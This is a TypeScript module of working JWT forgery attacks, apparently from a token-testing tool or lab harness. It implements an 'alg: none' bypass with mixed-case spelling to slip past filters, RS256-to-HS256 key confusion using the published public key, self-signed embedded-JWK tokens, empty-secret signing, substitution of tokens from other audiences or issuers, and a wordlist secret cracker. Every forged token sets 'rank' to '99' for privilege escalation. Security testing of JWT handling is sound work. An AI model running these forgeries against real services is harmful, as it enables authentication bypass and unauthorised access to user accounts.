/* Arrow functions and tables; every forgery is a header, a payload and a way to sign. */
import {
  createHmac,
  createPublicKey,
  createSecretKey,
  createSign,
  generateKeyPairSync,
} from 'node:crypto';
import type { Evidence, Jwks } from './evidence.ts';

type Json = Record<string, unknown>;
type Signer = (text: string) => string;

export const readToken = (token: string): { header: Json; payload: Json } => {
  const [header, payload] = token
    .split('.', 2)
    .map((part) => JSON.parse(Buffer.from(part, 'base64url').toString('utf8')) as Json);
  return { header: header ?? {}, payload: payload ?? {} };
};

export const encodeSegment = (value: object): string =>
  Buffer.from(JSON.stringify(value)).toString('base64url');

const forge = (token: string, change: Json, signer: Signer): string => {
  const { header, payload } = readToken(token);
  const text = [
    { ...header, ...change },
    { ...payload, rank: '99' },
  ]
    .map(encodeSegment)
    .join('.');
  return [text, signer(text)].join('.');
};

const hmac =
  (secret: string | Buffer): Signer =>
  (text) =>
    createHmac('sha256', createSecretKey(Buffer.from(secret)))
      .update(text)
      .digest('base64url');

/** The old signature stays where it is: nobody looks at it. */
export const forgeUnsigned = (token: string): string =>
  forge(token, { alg: 'nOnE' }, () => token.split('.')[2] ?? '');

export const forgeWithPublicKey = (token: string, jwks: Jwks): string => {
  const { kid } = readToken(token).header;
  const jwk = jwks.keys.find((key) => key.kid === kid);
  const pem = createPublicKey({ key: { ...jwk }, format: 'jwk' }).export({
    type: 'spki',
    format: 'pem',
  });
  return forge(token, { alg: 'HS256' }, hmac(pem));
};

export const forgeWithOwnKey = (token: string): string => {
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  // kid left out: JSON knows no undefined.
  return forge(token, { jwk: publicKey.export({ format: 'jwk' }), kid: undefined }, (text) =>
    createSign('sha256').update(text).sign(privateKey, 'base64url'),
  );
};

export const forgeWithUnknownKid = (token: string): string =>
  forge(token, { alg: 'HS256', kid: undefined }, hmac(''));

export const substitute = ({ others }: Evidence) => {
  const pick = (fits: (header: Json, payload: Json) => boolean): string =>
    others.find((token) => fits(readToken(token).header, readToken(token).payload)) ?? '';
  return {
    idToken: pick((header) => header['typ'] === 'JWT'),
    otherAudience: pick((_, { aud }) => aud === 'https://games.rubywave.io'),
    otherIssuer: pick((_, { iss }) => String(iss).includes('partner')),
  };
};

export const crack = (token: string, words: readonly string[]): string | undefined => {
  const [header, payload, signature] = token.split('.');
  const signatures = words.map((word) => hmac(word)(`${header}.${payload}`));
  return words[signatures.indexOf(signature ?? '')];
};

export const twin = (token: string): string => `${token}==`;
